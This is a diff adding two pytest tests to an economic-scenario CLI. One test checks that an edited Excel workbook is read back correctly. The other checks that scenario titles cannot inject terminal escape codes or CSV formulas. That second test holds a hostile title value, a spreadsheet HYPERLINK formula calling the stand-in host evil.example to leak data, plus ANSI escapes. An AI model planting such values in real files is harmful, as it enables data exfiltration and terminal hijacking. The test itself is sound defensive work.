@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import subprocess
 import sys
+from pathlib import Path
 
 import pytest
 
@@ -86,3 +87,50 @@ def test_sweep_rejects_a_bad_vary_option(
     )
     assert code == 2
     assert "nonsense" in capsys.readouterr().err
+
+
+def test_show_and_batch_read_an_edited_workbook(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """An econ workbook is a scenario too: its Assumptions sheet is read back."""
+    import shutil
+
+    from tests.test_excel import edit_workbook
+
+    src = ROOT / "workbooks" / "magnets_plant.xlsx"
+    edited = tmp_path / "what_if.xlsx"
+    edit_workbook(src, edited, {"capex_usd": 300e6})
+    assert main(["show", str(edited)]) == 0
+    shown = capsys.readouterr().out
+    expected = econ.evaluate(
+        econ.load_scenario(SEEDS / "magnets_plant.toml").with_values(capex_usd=300e6)
+    )
+    from econ.display import format_item
+
+    npv = expected.model.item("npv_usd")
+    assert format_item(float(expected.metric("npv_usd")[0]), npv) in shown
+    shutil.copy(SEEDS / "national_ree_gap.toml", tmp_path / "national_ree_gap.toml")
+    out = tmp_path / "out"
+    assert main(["batch", str(edited), str(tmp_path / "national_ree_gap.toml"), "-o", str(out),
+                 "-j", "1", "-q"]) == 0  # fmt: skip
+    assert (out / "magnets_plant.xlsx").exists()
+
+
+def test_titles_cannot_drive_the_terminal_or_become_csv_formulas(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    text = (SEEDS / "national_ree_gap.toml").read_text(encoding="utf-8")
+    title = "=HYPERLINK('http://evil.example/?leak','Click')\\u001b[2J\\u0007"
+    bad = tmp_path / "evil.toml"
+    start = text.index("title = ")
+    end = text.index("\n", start)
+    bad.write_text(text[:start] + f'title = "{title}"' + text[end:], encoding="utf-8")
+    assert main(["show", str(bad)]) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "?[2J?" in out
+    assert main(["batch", str(bad), "-o", str(tmp_path / "out"), "-j", "1", "-q"]) == 0
+    import csv
+
+    with (tmp_path / "out" / "summary.csv").open(encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert rows[0]["title"].startswith("'=HYPERLINK(")  # OWASP: neutralized
